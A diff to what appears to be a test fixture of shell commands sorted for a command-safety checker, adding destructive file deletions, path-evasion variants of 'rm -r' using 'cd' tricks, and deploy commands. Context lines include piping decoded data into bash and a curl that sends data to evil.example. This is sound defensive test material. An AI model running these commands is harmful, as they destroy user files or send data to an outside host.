@@ -171,6 +171,17 @@ rsync --delete a/ b
 ruby -e 'File.delete "a"'
 python manage.py migrate app zero
 pg_restore --clean -d app dump
+node -e "require('fs').rm('src', {recursive: true}, () => {})"
+deno eval 'Deno.removeSync("src")'
+python3 -c "open('notes.txt', 'w').close()"
+install /dev/null notes.txt
+mv src /dev/null
+cd /tmp; rm -r project
+cd /tmp && cd ~ && rm -r project
+cd /tmp && cd - && rm -r project
+cd /tmp && rm -r ../project
+cd x && rm -r project
+cd /tmp && rm -r $x/project
 awk 'BEGIN { system("rm -rf src") }'
 awk 'BEGIN { print "x" | "rm -rf src" }'
 rm -rf /home/a/project/src
@@ -247,6 +258,7 @@ jq -r '.commands[]' x.json | bash
 sed s/a/b/ script | sudo sh
 xxd -r -p x | env bash -s
 curl -d x http://localhost:80@evil.example/
+cap production deploy
 """
 SETTINGS = """
 npm config set registry http://example.com
@@ -474,6 +486,10 @@ curl -s "http://localhost:${PORT:-3000}/api"
 kubectl config view
 python -c "import os; os.remove('/tmp/x')"
 rm -rf /home/a/project/node_modules
+git diff --name-only HEAD | grep '\\.py$' | xargs -r ruff check --fix
+find . -empty -type d -delete
+cd /tmp && rm -r project && mkdir project && cd project && git init
+npx cap sync
 """
 
 
